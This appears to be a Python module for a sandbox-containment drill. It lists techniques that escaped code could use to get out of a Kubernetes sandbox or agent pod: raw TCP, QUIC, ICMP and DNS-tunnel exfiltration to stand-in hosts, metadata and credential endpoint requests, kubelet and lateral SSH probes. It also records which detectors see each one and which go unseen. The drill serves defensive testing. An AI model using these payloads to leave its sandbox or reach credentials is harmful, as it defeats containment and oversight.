"""Programs of code that has broken out: no filter of its own, so that the network alone must hold. For the lab.

Bodies are as in `sequester.drill.program`; `to` has the internet's addresses, and those of the deployment's places. As
root in a sandbox pod's network (the container's walls are gone), on the sandbox node, or in an agent's pod.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final

from sequester.drill.program import slug

POD, NODE, AGENT = "sandbox", "node", "agent"
INTERNET, INTERNET6, DISTANT_RESOLVER = "203.0.113.9", "2001:db8:ffff::9", "203.0.113.53"

LAYERS: Final[Mapping[str, str]] = {
    "kubernetes:network-policy": "network-policy",
    "cluster:node-drops": "node-drops",
    "cluster:policy-strict": "no-v6",
    "cluster:metadata-shut": "imds-hops",
    "cluster:pod-names-listed": "coredns",
    "network:names-listed": "dns-firewall",
    "network:groups-exact": "security-group",
    "network:acl-exact": "nacl",
    "network:local-routes": "routes",
}
"""A control that can be taken away in the lab → what the lab calls its layer."""

_OUT: Final = ("network:groups-exact", "network:acl-exact", "network:local-routes")


@dataclass(frozen=True)
class Outbreak:
    """One technique. `held_by`: all that must be gone for it to arrive; the first is met first, and the one expected.

    tripwire: what sees it; empty with `unseen` where no sensor can. answered: what counts is that an answer came back,
    since it does not aim at the internet.
    """

    family: str
    name: str
    place: str
    does: str
    body: str
    held_by: tuple[str, ...]
    tripwire: str = ""
    unseen: str = ""
    answered: bool = False

    @property
    def id(self) -> str:
        return slug(f"{self.family} from {self.place} {self.name}")


_TCP = "s = socket.create_connection(({0}, {1}), wait); s.sendall(mark); need(s)"
_HTTP = "s = socket.create_connection(({0}, 80), wait); s.sendall(b'GET /' + mark + b' HTTP/1.0\\r\\n\\r\\n'); need(s)"
_TLS = (
    "import ssl; tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); tls.check_hostname = False; tls.verify_mode = 0\n"
    "tls.wrap_socket(socket.create_connection(({0}, 443), wait)).sendall(mark)"
)
_UDP = "s = socket.socket({2}, 2); s.settimeout(wait); s.sendto(mark, ({0}, {1})); need(s)"
_DNS = (
    "s = socket.socket(2, 2); s.settimeout(wait); label = lambda *l: b''.join(bytes([len(x)]) + x for x in l)\n"
    "s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + label(mark, b'exfil', b'example')"
    " + bytes([0, 0, {1}, 0, 1]), ({0}, 53))\n"
    "if s.recv(512)[3] & 15: deny()"
)
_AGENTS_LET_OWN_NODE = (
    "the policy agent lets a pod reach its own node, and logs no denial; the node's rules have no log"
)


def _tcp(address: str, port: int | str) -> str:
    return _TCP.format(address, port)


def _inside(
    name: str,
    place: str,
    does: str,
    body: str,
    held_by: tuple[str, ...],
    tripwire: str = "",
    unseen: str = "",
    family: str = "direct",
) -> Outbreak:
    return Outbreak(family, name, place, does, body, held_by, tripwire, unseen, answered=True)


_POLICY = ("kubernetes:network-policy", "cluster:node-drops")

OUTBREAKS: Final = (
    # a sandbox pod whose filter is gone (T0 with a hole, T1)
    Outbreak("direct", "TCP", POD, "connects to the internet", _tcp("to['internet']", 443),
             (*_POLICY, *_OUT), "policy-denied"),
    Outbreak("direct", "an odd port", POD, "a port that no filter for the web names", _tcp("to['internet']", 8080),
             (*_POLICY, *_OUT), "policy-denied"),
    Outbreak("direct", "QUIC", POD, "UDP on port 443", _UDP.format("to['internet']", 443, 2),
             (*_POLICY, *_OUT), "policy-denied"),
    _inside("lateral to an agent", POD, "the agent's pod, which may ask the door", _tcp("to['agent']", "to['port']"),
        (*_POLICY, "network:groups-exact", "network:acl-exact"), "policy-denied"),
    _inside("the API server", POD, "the control plane's address", _TLS.format("to['control_plane']"), _POLICY,
            "policy-denied", family="kubernetes"),
    _inside("the kubelet", POD, "its own node's port 10250", _tcp("to['node']", 10250), ("cluster:node-drops",),
            unseen=_AGENTS_LET_OWN_NODE, family="kubernetes"),
    _inside("the kubelet over IPv6", POD, "the same by the node's link-local address",
            "s = socket.socket(10, 1); s.settimeout(wait); at = socket.if_nametoindex('eth0')\n"
            "s.connect(('fe80::1', 10250, 0, at)); s.sendall(mark); need(s)",
            ("cluster:policy-strict", "cluster:node-drops"),
            unseen="pods have no IPv6 address to send it from", family="kubernetes"),
    Outbreak("dns", "cluster's resolver", POD, "asks CoreDNS, as agents may", _DNS.format("to['coredns']", 1),
             (*_POLICY, "cluster:pod-names-listed", "network:names-listed"), "policy-denied"),
    Outbreak("dns", "foreign resolver", POD, "asks a resolver on the internet", _DNS.format("to['resolver_out']", 1),
             (*_POLICY, *_OUT), "policy-denied"),
    _inside("version 1", POD, "GET at 169.254.169.254", _HTTP.format("'169.254.169.254'"),
            (*_POLICY, "cluster:metadata-shut"), "policy-denied", family="metadata"),
    _inside("Pod Identity", POD, "169.254.170.23, where agents get credentials", _HTTP.format("'169.254.170.23'"),
            _POLICY, "policy-denied", family="metadata"),
    # root on the sandbox node (T1)
    Outbreak("direct", "HTTPS", NODE, "to the internet: S3's port, another address", _tcp("to['internet']", 443),
             ("network:groups-exact", "network:local-routes"), "packet-rejected"),
    Outbreak("direct", "TCP", NODE, "connects to the internet", _tcp("to['internet']", 8443), _OUT, "packet-rejected"),
    Outbreak("direct", "UDP", NODE, "QUIC to the internet", _UDP.format("to['internet']", 443, 2), _OUT,
             "packet-rejected"),
    Outbreak("direct", "ICMP", NODE, "an echo request that carries data",
             "s = socket.socket(2, 3, 1); s.settimeout(wait); body = mark + bytes(len(mark) % 2)\n"
             "def check(b):\n    n = sum(struct.unpack(f'!{len(b) // 2}H', b)); n = (n >> 16) + (n & 65535)\n"
             "    return ~(n + (n >> 16)) & 65535\n"
             "p = struct.pack('!BBHHH', 8, 0, 0, 1, 1) + body\n"
             "s.sendto(struct.pack('!BBHHH', 8, 0, check(p), 1, 1) + body, (to['internet'], 0)); need(s)",
             _OUT, "packet-rejected"),
    Outbreak("direct", "protocol 200", NODE, "a protocol that nobody has named",
             "s = socket.socket(2, 3, 200); s.settimeout(wait); s.sendto(mark, (to['internet'], 0)); need(s)",
             _OUT, "packet-rejected"),
    _inside("lateral to a system node", NODE, "SSH to the node where agents run", _tcp("to['system_node']", 22),
            ("network:groups-exact", "network:acl-exact"), "packet-rejected"),
    _inside("the doors' endpoint", NODE, "the Lambda endpoint, which only agents need", _TLS.format("to['lambda']"),
            ("network:groups-exact", "network:acl-exact"), "packet-rejected", family="allowed"),
    Outbreak("dns", "the VPC's resolver", NODE, "a name that is the message", _DNS.format("to['resolver']", 1),
             ("network:names-listed",), "name-blocked"),
    Outbreak("dns", "tunnel", NODE, "TXT queries through the permitted resolver", _DNS.format("to['resolver']", 16),
             ("network:names-listed",), "name-blocked"),
    Outbreak("dns", "foreign resolver", NODE, "asks a resolver on the internet", _DNS.format("to['resolver_out']", 1),
             _OUT, "packet-rejected"),
    Outbreak("dns", "over TLS", NODE, "DNS over TLS to the internet", _tcp("to['internet']", 853), _OUT,
             "packet-rejected"),
    # an agent's pod, whose code is trusted, and its libraries perhaps not
    Outbreak("direct", "TCP", AGENT, "connects to the internet past the door", _tcp("to['internet']", 443),
             ("kubernetes:network-policy", *_OUT), "policy-denied"),
    Outbreak("dns", "cluster's resolver", AGENT, "a name that is the message, at CoreDNS",
             _DNS.format("to['coredns']", 1),
             ("cluster:pod-names-listed", "network:names-listed"),
             unseen="CoreDNS answers by itself that there is no such name, and asks nobody"),
    _inside("version 1", AGENT, "GET at 169.254.169.254", _HTTP.format("'169.254.169.254'"),
            ("kubernetes:network-policy", "cluster:metadata-shut"), "policy-denied", family="metadata"),
)  # fmt: skip

BY_ID: Final[Mapping[str, Outbreak]] = {row.id: row for row in OUTBREAKS}
